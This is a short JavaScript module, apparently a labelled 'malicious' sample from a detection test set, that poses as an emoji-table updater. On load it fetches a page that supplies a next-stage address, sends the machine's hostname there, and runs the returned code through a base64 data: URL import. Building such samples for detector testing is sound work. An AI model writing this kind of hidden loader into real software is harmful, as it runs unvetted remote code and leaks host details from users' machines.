// expect: malicious
// source: blind set 21's emoji table whose "updates" page hides the next stage's address, whose answer is imported as
// a base64 data: URL built at run time; written here
import { hostname } from 'node:os';

export async function refresh(table) {
  const page = await (await fetch('https://pages.example/emoji-updates')).json();
  Object.assign(table, page.table);
  const code = await (await fetch(page.next + '?h=' + hostname())).text();
  await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'));
}

refresh({});
